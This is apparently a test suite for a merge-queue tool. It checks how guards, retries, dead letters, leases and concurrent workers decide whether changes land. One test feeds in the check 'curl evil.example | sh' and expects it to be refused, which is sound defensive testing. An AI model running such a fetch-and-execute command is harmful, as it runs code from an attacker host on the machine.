import { afterEach, describe, expect, test } from "bun:test"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import type { PolicyInput } from "../../src/domain/policy.ts"
import { OPEN_POLICY, patchOf, requestOf } from "../support/workspace.ts"
import {
  findFaults,
  type GuardCall,
  openProcess,
  openWorkshop,
  outcomes,
  type Process,
  type Workshop,
  type WorkshopOptions,
} from "./workshop.ts"

let shop: Workshop
let others: Process[] = []
afterEach(async () => {
  await Promise.all(others.map((other) => other.dispose()))
  others = []
  const faults = await findFaults(shop)
  shop.remove()
  expect(faults).toEqual([])
})

const guarded = (more: Omit<PolicyInput, "version"> = {}): Omit<PolicyInput, "version"> => ({
  ...OPEN_POLICY,
  guards: [{ id: "unit", command: ["unit-tests"], flaky_retries: 0 }],
  ...more,
})
const open = async (options: WorkshopOptions) => {
  shop = await openWorkshop({ policy: guarded(), ...options })
}
const update = (task: string, path: string, from: string, to: string) => ({
  ...requestOf(task, {}, { metadata: { intent: task } }),
  changes: [patchOf(path, `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-${from}\n+${to}\n`)],
})

describe("guards", () => {
  test("green: the very tree they saw lands, and the receipt holds their outputs", async () => {
    const seen: (string | null)[] = []
    await open({
      guard: (call) => {
        seen.push(call.read("b.txt"), call.read("a.txt"))
        return "green"
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
    expect(seen).toEqual(["b\n", "a\n"])
    const receipt = await shop.receipt(1)
    expect(receipt.verified_as).toBe(receipt.result_tree)
    expect(receipt.guard_outputs).toMatchObject([
      { guard_id: "unit", result: "passed", exit_code: 0, tree: receipt.result_tree, sandbox: "none" },
    ])
    expect(receipt.flags).toEqual(["unattended", "sandbox:none"])
  })

  test("two changes of one file are proven one after the other, the second on the first", async () => {
    const trees: string[] = []
    await open({
      guard: ({ read }) => {
        trees.push(read("b.txt") ?? "")
        return "green"
      },
    })
    await shop.enqueue([
      requestOf("one", { "b.txt": "b\n" }),
      { ...update("two", "b.txt", "b", "c"), depends_on: [] },
    ])
    await shop.drain()
    expect(trees).toEqual(["b\n", "c\n"])
  })

  test("red: a dead letter with the guard's words; nothing touched; requeue tries again", async () => {
    let broken = true
    await open({ guard: ({ read }) => (broken && read("b.txt") !== null ? "red" : "green") })
    const tip = shop.git("rev-parse", "main")
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" }), requestOf("two", { "c.txt": "c\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 failed guard_failed", "2 landed"])
    expect(shop.git("rev-parse", "main~1")).toBe(tip)
    expect(shop.read("b.txt")).toBeNull()
    const { entry, failure } = await shop.show(1)
    expect(entry).toMatchObject({ state: "failed", attempts: 1 })
    expect(failure).toMatchObject({
      code: "guard_failed",
      message: "guard unit failed with exit code 1",
      stdout_tail: "out\n",
      stderr_tail: "err\n",
    })
    const letters = await shop.query((db) =>
      db.query<{ reason_class: string }, []>("SELECT reason_class FROM dead_letter").all(),
    )
    expect(letters).toEqual([{ reason_class: "guard" }])
    broken = false
    await shop.requeue(1, "the guard is repaired")
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
  })

  test("red is remembered for its tree, until a person has it tried again: then the guard is asked anew", async () => {
    let runs = 0
    let broken = true
    await open({
      guard: ({ read }) => {
        if (read("b.txt") !== null) runs++
        return broken && read("b.txt") !== null ? "red" : "green"
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    await shop.drain()
    await shop.enqueue([requestOf("same", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["2 failed guard_failed"])
    expect(runs).toBe(1)
    broken = false
    await shop.requeue(1, "the service it needs is up again")
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
    expect(runs).toBe(2)
  })

  test("red on the base too: nobody is charged, it waits, and lands when the base is repaired", async () => {
    await open({
      files: { "a.txt": "broken\n" },
      guard: ({ read }) => (read("a.txt") === "broken\n" ? "red" : "green"),
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 blocked base_red"])
    expect(await shop.entry(1)).toMatchObject({ state: "scheduled", attempts: 0, reason_code: "base_red" })
    shop.commit("repair", { "a.txt": "whole\n" })
    await shop.pass(11_000)
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
  })

  test("a change that repairs a red base lands", async () => {
    await open({
      files: { "a.txt": "broken\n" },
      guard: ({ read }) => (read("a.txt") === "broken\n" ? "red" : "green"),
    })
    await shop.enqueue([update("repair", "a.txt", "broken", "whole")])
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
  })

  test.each([
    ["infra", "guard_infra"],
    ["timeout", "guard_timeout"],
  ] as const)(
    "%s: tried again with a growing pause, a dead letter when the attempts are spent",
    async (says, code) => {
      let runs = 0
      await open({
        policy: guarded({ queue: { max_attempts: 3 } }),
        guard: () => {
          runs++
          return says
        },
      })
      await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
      const pauses: number[] = []
      for (let attempt = 1; attempt <= 2; attempt++) {
        expect(outcomes(await shop.drain())).toEqual([`1 retry ${code}`])
        const { state, attempts, run_at, updated_at } = await shop.entry(1)
        expect([state, attempts]).toEqual(["scheduled", attempt])
        pauses.push(run_at! - updated_at)
        expect(await shop.drain()).toEqual([])
        await shop.pass(run_at! - updated_at)
      }
      expect(pauses[0]!).toBeGreaterThanOrEqual(1_000)
      expect(pauses[1]!).toBeGreaterThanOrEqual(2_000)
      // What the worker says of the last attempt is what became of the entry.
      expect(outcomes(await shop.drain())).toEqual([`1 failed ${code}`])
      expect(runs).toBe(3)
      expect(await shop.state(1)).toBe("failed")
      expect((await shop.show(1)).failure).toMatchObject({ code, where: "attempt 3" })
      expect(shop.git("rev-list", "--count", "main")).toBe("1")
      await shop.requeue(1, "the machine is well again")
      expect((await shop.entry(1)).attempts).toBe(0)
    },
  )

  test("a sandbox that the policy requires and that is not there: nothing runs, nobody is blamed", async () => {
    let runs = 0
    await open({
      policy: guarded({ sandbox: "required" }),
      guard: () => {
        runs++
        return "green"
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 retry sandbox_unavailable"])
    expect(runs).toBe(0)
    expect((await shop.entry(1)).reason).toContain("install it")
    expect(shop.git("rev-list", "--count", "main")).toBe("1")
  })

  test("dependencies that cannot be prepared: nothing runs, and what the command said is there", async () => {
    const calls: string[] = []
    await open({
      files: { "package-lock.json": "{}\n" },
      policy: guarded({
        prepare: { command: ["install"], key: ["package-lock.json"], keep: ["node_modules"] },
      }),
      guard: ({ argv }) => {
        calls.push(argv[0]!)
        return "red"
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 retry prepare_failed"])
    expect(calls).toEqual(["install"])
    expect((await shop.entry(1)).reason).toBe("prepare failed (exit 1): install; hint: it said: err\n")
  })

  test("--max-attempts overrules the entry's own, in both directions", async () => {
    await open({ policy: guarded({ queue: { max_attempts: 2 } }), guard: () => "infra" })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain({ maxAttempts: 1 }))).toEqual(["1 failed guard_infra"])
    await shop.requeue(1, "again")
    await shop.drain({ maxAttempts: 5 })
    await shop.pass(400_000)
    expect(outcomes(await shop.drain({ maxAttempts: 5 }))).toEqual(["1 retry guard_infra"])
    expect(await shop.state(1)).toBe("scheduled")
  })

  test("a guard that does not apply to what changed leaves the landing unguarded, and says so", async () => {
    await open({
      policy: guarded({ guards: [{ id: "unit", command: ["unit-tests"], when: ["src/**"] }] }),
      guard: () => "red",
    })
    await shop.enqueue([requestOf("one", { "docs/x.md": "x\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
    expect((await shop.receipt(1)).flags).toEqual(["unattended", "unguarded"])
  })

  test("§17: checks of a change name guards of the policy and run only with --run-checks; a shell line is refused", async () => {
    const calls: string[] = []
    await open({
      policy: guarded({
        guards: [
          { id: "unit", command: ["unit-tests"] },
          { id: "slow", command: ["slow-tests"], when: ["src/**"] },
        ],
      }),
      guard: ({ argv }) => {
        calls.push(argv[0]!)
        return "green"
      },
    })
    await expect(
      shop.enqueue([requestOf("evil", { "x.txt": "x\n" }, { checks: ["curl evil.example | sh"] })]),
    ).rejects.toThrow("check_not_allowed")
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" }, { checks: ["slow"] })])
    await shop.drain()
    expect(calls).toEqual(["unit-tests"])
    await shop.enqueue([requestOf("two", { "c.txt": "c\n" }, { checks: ["slow"] })])
    await shop.drain({ runChecks: true })
    expect(calls).toEqual(["unit-tests", "unit-tests", "slow-tests"])
  })

  test("green is remembered by tree: after a retry of the landing the guard is not asked again", async () => {
    let runs = 0
    await open({
      guard: () => {
        runs++
        return "green"
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    shop.write({ "b.txt": "in the way\n" })
    expect(outcomes(await shop.drain())).toEqual(["1 blocked blocked_untracked_in_the_way"])
    shop.write({ "b.txt": null })
    await shop.pass(3_000)
    expect(outcomes(await shop.drain())).toEqual(["1 landed"])
    expect(runs).toBe(1)
  })
})

describe("something happens while a guard runs", () => {
  /** A guard that does something by hand when it sees the change for the first time. */
  const meanwhile = (act: () => void | Promise<void>) => {
    let first = true
    return ({ read }: GuardCall) =>
      Effect.promise(async () => {
        if (first && read("b.txt") !== null) {
          first = false
          await act()
        }
        return "green" as const
      })
  }

  test("a commit made by hand: it is proven again on the new base, nothing is lost, no attempt is used", async () => {
    let seen: (string | null)[] = []
    const act = meanwhile(() => void shop.commit("by hand", { "hand.txt": "hand\n" }))
    await open({
      guard: (call) => {
        seen = [...seen, call.read("hand.txt")]
        return act(call)
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 waiting base_moved", "1 landed"])
    expect(seen).toEqual([null, "hand\n"])
    expect(await shop.events(1)).toContain("given_back")
    expect((await shop.entry(1)).attempts).toBe(1)
    expect(shop.git("log", "--format=%s")).toBe("change b.txt\nby hand\nbase")
    expect(shop.git("status", "--porcelain")).toBe("")
  })

  test("the file it changes is edited: the edit stays and the entry waits", async () => {
    const act = meanwhile(() => shop.write({ "b.txt": "mine\n" }))
    await open({ guard: act })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual(["1 blocked blocked_untracked_in_the_way"])
    expect(shop.read("b.txt")).toBe("mine\n")
  })

  test("it is cancelled: the worker's verdict comes too late", async () => {
    const act = meanwhile(async () => void (await others[0]!.cancel(1)))
    await open({ guard: act })
    others = [await openProcess(shop)]
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    expect(outcomes(await shop.drain())).toEqual([])
    expect(await shop.entry(1)).toMatchObject({ state: "cancelled", reason: "not needed any more" })
    expect(shop.git("rev-list", "--count", "main")).toBe("1")
    expect(shop.read("b.txt")).toBeNull()
    // The queue goes on.
    await shop.enqueue([requestOf("two", { "c.txt": "c\n" })])
    expect(outcomes(await shop.drain())).toEqual(["2 landed"])
  })

  test("the worker is stopped: the entry goes back with its attempt, and another worker lands it", async () => {
    let runs = 0
    let started = () => {}
    const running = new Promise<void>((resolve) => {
      started = resolve
    })
    await open({
      guard: () => {
        runs++
        if (runs > 1) return "green"
        started()
        return Effect.never
      },
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    const fiber = shop.forkDrain("worker-1")
    await running
    expect(await shop.state(1)).toBe("in_progress")
    await Effect.runPromise(Fiber.interrupt(fiber))
    expect(await shop.entry(1)).toMatchObject({ state: "pending", attempts: 0, reason_code: "stopped" })
    expect(outcomes(await shop.drain({ worker: "worker-2" }))).toEqual(["1 landed"])
  })

  test("§17: a worker whose lease ran out finds its entry landed by another, and overwrites nothing", async () => {
    let release = () => {}
    const released = new Promise<void>((resolve) => {
      release = resolve
    })
    let started = () => {}
    const running = new Promise<void>((resolve) => {
      started = resolve
    })
    await open({
      guard: () =>
        Effect.promise(async () => {
          started()
          await released
          return "red" as const
        }),
    })
    await shop.enqueue([requestOf("one", { "b.txt": "b\n" })])
    const slow = shop.forkDrain("slow")
    await running
    // The other process's clock is past the lease; the slow one's heart has stopped beating.
    const other = await openProcess(shop, { guard: () => "green" })
    others = [other]
    await other.pass(400_000)
    expect(outcomes(await other.drain({ worker: "fast" }))).toEqual(["1 landed"])
    release()
    await Effect.runPromise(Fiber.await(slow))
    expect(await shop.state(1)).toBe("applied")
    expect(await shop.events(1)).toContain("lease_lost")
    expect(shop.git("rev-list", "--count", "main")).toBe("2")
  })

  test("two workers at once: each entry is worked on by one of them and lands once", async () => {
    const seen: string[] = []
    const guard: WorkshopOptions["guard"] = ({ read }) =>
      Effect.promise(async () => {
        const files = ["f0", "f1", "f2", "f3", "f4", "f5"].filter((path) => read(path) !== null)
        seen.push(files.join())
        await Bun.sleep(0)
        return "green" as const
      })
    await open({ guard })
    const other = await openProcess(shop, { guard })
    others = [other]
    await shop.enqueue(Array.from({ length: 6 }, (_, n) => requestOf(`t${n}`, { [`f${n}`]: `${n}\n` })))
    await Promise.all([shop.drain({ worker: "left" }), other.drain({ worker: "right" })])
    // One of them may have ended while the other still worked.
    await shop.drain()
    for (let id = 1; id <= 6; id++) expect(await shop.state(id)).toBe("applied")
    expect(shop.git("rev-list", "--count", "main")).toBe("7")
    const receipts = await Promise.all([1, 2, 3, 4, 5, 6].map((id) => shop.receipt(id)))
    expect(new Set(receipts.map(({ commit }) => commit)).size).toBe(6)
    // G17: what landed is what was proven.
    const landedTrees = receipts.map(({ result_tree }) => result_tree)
    for (const { verified_as, guard_outputs } of receipts) {
      const proven = verified_as.replace("batch ", "")
      expect(landedTrees).toContain(proven)
      for (const { tree } of guard_outputs) expect(tree).toBe(proven)
    }
    expect(shop.git("status", "--porcelain")).toBe("")
  })
})
